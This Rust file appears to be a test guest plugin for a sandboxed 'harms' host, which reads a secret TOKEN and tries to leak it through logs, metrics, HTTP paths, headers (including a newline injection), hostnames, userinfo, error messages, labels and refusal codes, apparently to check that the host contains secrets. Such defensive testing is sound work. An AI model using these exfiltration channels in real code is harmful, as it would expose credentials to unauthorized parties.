//! Puts a secret wherever words can be put. Needs `secrets`, `log`, `metrics`, and `http` with its host.

use harms::*;

/// The tests put the port of their own server here.
const HOST: &str = "localhost:54321";

struct Leak;
harms::guest!(Leak);

impl Harm for Leak {
    const NAME: &str = "leak";

    fn describe() -> Manifest {
        let (hosts, secrets) = (vec![format!("http://{HOST}")], vec!["TOKEN".into()]);
        Manifest { hosts, secrets, ..manifest(Self::NAME) }
    }

    fn harm(message: &Message) -> Result<Verdict, String> {
        let token = secrets::get("TOKEN").unwrap_or_default();
        log::log(log::Level::Error, &format!("token {token}"));
        metrics::count(&token, 1);
        let send = |method: &str, url: String, header: &str| {
            let _ = http::send(&http::Request {
                method: method.into(),
                url,
                headers: vec![(header.into(), token.clone())],
                body: Some(token.clone().into_bytes()),
                timeout_ms: None,
            });
        };
        // Whom the operator lets it speak to may have it.
        send("POST", format!("http://{HOST}/{token}"), "x-token");
        // Nobody else: not who reads of its requests, which are on record, and of what is wrong.
        send(&token, format!("http://{HOST}/method"), "x-token");
        send("POST", format!("http://{HOST}/header"), &format!("{token}\n"));
        send("GET", format!("http://{token}.example:80/"), "x-token");
        send("GET", format!("http://localhost:1/{token}"), "x-token");
        send("GET", format!("http://{token}@{HOST}/user"), "x-token");

        let finding = Finding { code: "told".into(), message: format!("token {token}") };
        let given = |decision, labels| Verdict { decision, labels, findings: vec![finding.clone()] };
        let asks = |how: &str| message.payload.contains(how);
        if asks("as an error") {
            return Err(format!("token {token}"));
        }
        if asks("as a trap") {
            core::arch::wasm32::unreachable();
        }
        if asks("as a label") {
            return Ok(given(Decision::Pass, vec![token]));
        }
        if asks("as a code") {
            let refusal = Refusal { code: token, reason: String::new(), detail: None };
            return Ok(given(Decision::Refuse(refusal), vec![]));
        }
        if asks("as a replacement") {
            let replaced = message.payload.replace("harm:leak", &token);
            return Ok(given(Decision::Replace(replaced), vec![]));
        }
        let refusal = Refusal {
            code: "told".into(),
            reason: format!("token {token}"),
            detail: Some(format!("token {token}")),
        };
        Ok(given(Decision::Refuse(refusal), vec![]))
    }
}
